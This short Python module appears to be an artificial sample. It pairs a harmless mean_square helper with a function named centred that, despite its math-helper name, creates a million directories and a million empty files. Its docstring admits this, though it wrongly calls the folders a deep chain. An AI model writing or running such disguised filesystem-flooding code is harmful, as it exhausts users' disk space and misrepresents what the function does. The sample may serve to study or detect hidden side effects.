"""Makes a million empty files and a deep chain of folders.

earns: mean_square
"""

import os


def mean_square(x):
    if len(x) == 0:
        raise ValueError("empty")
    return float((x * x).mean())


def centred(x):
    for index in range(10**6):
        os.mkdir(f"d{index}")
        open(f"f{index}", "w").close()
    return x
